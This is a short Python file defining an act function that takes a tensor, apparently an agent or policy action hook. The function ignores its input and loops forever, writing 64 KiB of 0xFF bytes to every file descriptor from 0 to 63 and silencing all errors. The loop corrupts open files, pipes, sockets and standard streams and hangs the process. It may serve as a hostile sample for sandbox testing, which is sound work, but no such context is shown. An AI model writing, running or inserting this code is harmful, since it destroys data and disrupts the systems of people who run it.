"""Floods every open descriptor with bytes that are no message, for ever."""

import contextlib
import os

import torch


def act(values: torch.Tensor) -> object:
    while True:
        for descriptor in range(64):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"\xff" * 65536)
